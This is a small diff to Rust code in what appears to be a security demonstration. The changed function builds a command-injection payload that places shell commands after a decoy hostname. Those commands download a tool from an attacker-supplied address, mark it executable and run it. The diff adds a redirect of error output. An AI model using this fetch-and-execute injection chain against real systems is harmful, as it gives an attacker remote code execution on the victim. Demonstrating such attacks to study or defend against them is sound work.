@@ -81,6 +81,8 @@ fn send(mut stream: TcpStream, body: &[u8]) -> io::Result<()> {
 pub(super) fn injection(attacker: SocketAddr) -> String {
     let commands = [
         "fish.example".to_owned(),
+        // An attacker wants to see what went wrong, and so does who reads the demo's output.
+        "exec 2>&1".to_owned(),
         format!("/app/shop fetch {attacker} /tool /tmp/tool"),
         "chmod +x /tmp/tool".to_owned(),
         "/tmp/tool".to_owned(),
